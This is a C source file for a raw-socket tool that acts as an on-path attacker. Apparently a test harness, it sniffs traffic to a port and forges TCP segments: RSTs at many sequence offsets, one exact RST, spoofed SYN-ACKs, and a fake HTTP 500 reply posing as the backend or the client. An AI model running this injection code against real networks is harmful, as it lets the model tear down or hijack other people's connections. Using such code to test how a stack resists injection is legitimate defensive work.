/*
 * An on-path attacker that forges segments of a backend: spoof DEVICE PORT near|exact|late
 * It sees every frame of DEVICE and answers each SYN and each request to PORT before the backend does.
 *   near   segments that the kernel rejects: sequence numbers at many distances from the right one; some are forged as the client
 *   exact  one RST that the kernel accepts
 *   late   when the backend has answered a SYN: RSTs as for a socket that knows no numbers of its peer, then the SYN-ACK again,
 *          without TCP options, so that a filter can tell it from the first
 * Runs until stdin closes, and prints the number of forged segments.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { FIN = 1, SYN = 2, RST = 4, PSH = 8, ACK = 16 };

static int wire, exact, late;
static unsigned sent;
static uint16_t port;

/* The frame that is answered. */
struct seen {
	const uint8_t *frame, *ip, *tcp;
	int six;
	unsigned payload;
};

static uint32_t get32(const uint8_t *at)
{
	return (uint32_t)at[0] << 24 | at[1] << 16 | at[2] << 8 | at[3];
}

static void put16(uint8_t *at, unsigned v)
{
	at[0] = v >> 8;
	at[1] = v;
}

static void put32(uint8_t *at, uint32_t v)
{
	put16(at, v >> 16);
	put16(at + 2, v);
}

static uint32_t sum(const uint8_t *at, unsigned n, uint32_t before)
{
	for (unsigned i = 0; i + 1 < n; i += 2)
		before += at[i] << 8 | at[i + 1];
	if (n & 1)
		before += at[n - 1] << 8;
	return before;
}

static unsigned folded(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return ~s & 0xffff;
}

/* Forges a segment of the backend, or of the client. */
static void forge_as(int asker, const struct seen *s, uint32_t seq, uint32_t ack, unsigned flags, const char *payload)
{
	uint8_t f[512] = {};
	unsigned n = strlen(payload), head = s->six ? 40 : 20, address = s->six ? 16 : 4, first = s->six ? 8 : 12;
	uint8_t *ip = f + 14, *tcp = ip + head;

	/* to where the client is */
	memcpy(f, s->frame + (late ? 0 : 6), 6);
	memcpy(f + 6, s->frame + (late ? 6 : 0), 6);
	memcpy(f + 12, s->frame + 12, 2);
	memcpy(ip, s->ip, head);
	if (!asker) {
		memcpy(ip + first, s->ip + first + address, address);
		memcpy(ip + first + address, s->ip + first, address);
	}
	if (s->six) {
		put16(ip + 4, 20 + n);
	} else {
		ip[0] = 0x45;
		put16(ip + 2, 40 + n);
		put16(ip + 10, 0);
		put16(ip + 10, folded(sum(ip, 20, 0)));
	}
	memcpy(tcp, s->tcp + (asker ? 0 : 2), 2);
	memcpy(tcp + 2, s->tcp + (asker ? 2 : 0), 2);
	put32(tcp + 4, seq);
	put32(tcp + 8, ack);
	tcp[12] = 0x50;
	tcp[13] = flags;
	put16(tcp + 14, 500);
	memcpy(tcp + 20, payload, n);
	put16(tcp + 16, folded(sum(tcp, 20 + n, sum(ip + first, 2 * address, 6 + 20 + n))));
	if (send(wire, f, 14 + head + 20 + n, 0) < 0)
		perror("send");
	sent++;
}

static void forge(const struct seen *s, uint32_t seq, uint32_t ack, unsigned flags, const char *payload)
{
	forge_as(0, s, seq, ack, flags, payload);
}

static const int distances[] = {1,	     -1,	 1000,	      -1000,		1 << 16,       -(1 << 16), 1 << 20,
			  -(1 << 20), (1 << 24) - 1, 1 - (1 << 24), 1 << 24, -(1 << 24), 1 << 30};
#define DISTANCES (sizeof(distances) / sizeof(*distances))

static void answer_syn(const struct seen *s)
{
	uint32_t isn = get32(s->tcp + 4);

	if (exact) {
		forge(s, 0, isn + 1, RST | ACK, "");
		return;
	}
	forge(s, 0, 0, RST, "");
	forge(s, isn + 1, isn + 1, RST, "");
	forge(s, 0, isn, RST | ACK, "");
	for (unsigned i = 0; i < DISTANCES; i++) {
		forge(s, 0, isn + 1 + distances[i], RST | ACK, "");
		/* a client answers a wrong SYN-ACK with a RST; if that is near enough, it ends the half-open socket */
		if (distances[i] < 0 || distances[i] >= 1 << 20)
			forge(s, 7, isn + 1 + distances[i], SYN | ACK, "");
	}
}

static void answer_request(const struct seen *s)
{
	static const char stray[] = "HTTP/1.1 500 Forged\r\nContent-Length: 0\r\n\r\n";
	uint32_t next = get32(s->tcp + 8), ack = get32(s->tcp + 4) + s->payload;

	if (exact) {
		forge(s, next, ack, RST | ACK, "");
		return;
	}
	for (unsigned i = 0; i < DISTANCES; i++) {
		/* inside the window, only an ACK number that was never sent makes the segment invalid */
		uint32_t bad = distances[i] > -100 && distances[i] < 1 << 18 ? ack + (1 << 30) : ack;

		forge(s, next + distances[i], 0, RST, "");
		forge(s, next + distances[i], ack, RST | ACK, "");
		forge(s, next + distances[i], bad, FIN | ACK, "");
		forge(s, next + distances[i], bad, PSH | ACK, stray);
		forge_as(1, s, ack + distances[i], next, RST | ACK, "");
		forge_as(1, s, ack + distances[i], next, FIN | ACK, "");
		forge_as(1, s, ack + distances[i], 0, SYN, "");
	}
}

static void follow_syn_ack(const struct seen *s)
{
	uint32_t seq = get32(s->tcp + 4), ack = get32(s->tcp + 8);

	forge_as(1, s, 0, 0, RST, "");
	forge_as(1, s, 0, ack - 1, RST | ACK, "");
	usleep(100000);
	forge_as(1, s, seq, ack, SYN | ACK, "");
}

static void look(const uint8_t *frame, int length, int by_backend)
{
	struct seen s = {.frame = frame, .ip = frame + 14};
	unsigned type = frame[12] << 8 | frame[13], total;

	if (length < 54 || (type != 0x0800 && type != 0x86dd))
		return;
	s.six = type == 0x86dd;
	if (s.ip[s.six ? 6 : 9] != 6)
		return;
	s.tcp = s.ip + (s.six ? 40 : (s.ip[0] & 15) * 4);
	if ((s.tcp[by_backend ? 0 : 2] << 8 | s.tcp[by_backend ? 1 : 3]) != port)
		return;
	total = s.six ? 40 + (s.ip[4] << 8 | s.ip[5]) : s.ip[2] << 8 | s.ip[3];
	s.payload = total - (s.tcp - s.ip) - (s.tcp[12] >> 4) * 4;
	if (by_backend) {
		if (s.tcp[13] & SYN)
			follow_syn_ack(&s);
	} else if ((s.tcp[13] & (SYN | ACK)) == SYN)
		answer_syn(&s);
	else if (s.payload)
		answer_request(&s);
}

int main(int argc, char **argv)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
	struct pollfd p[2] = {{.fd = 0, .events = POLLIN}, {.events = POLLIN}};
	uint8_t frame[65536], word[16];

	if (argc < 4)
		return 2;
	at.sll_ifindex = if_nametoindex(argv[1]);
	port = atoi(argv[2]);
	exact = !strcmp(argv[3], "exact");
	late = !strcmp(argv[3], "late");
	wire = p[1].fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (wire < 0 || bind(wire, (struct sockaddr *)&at, sizeof(at))) {
		perror("socket");
		return 1;
	}
	puts("ready");
	fflush(stdout);
	while (poll(p, 2, -1) > 0) {
		struct sockaddr_ll from;
		socklen_t size = sizeof(from);
		int n;

		if (p[0].revents && read(0, word, sizeof(word)) <= 0)
			break;
		if (!p[1].revents)
			continue;
		n = recvfrom(wire, frame, sizeof(frame), 0, (struct sockaddr *)&from, &size);
		if (n > 0 && (from.sll_pkttype == PACKET_OUTGOING) == late)
			look(frame, n, late);
	}
	printf("%u\n", sent);
	return 0;
}
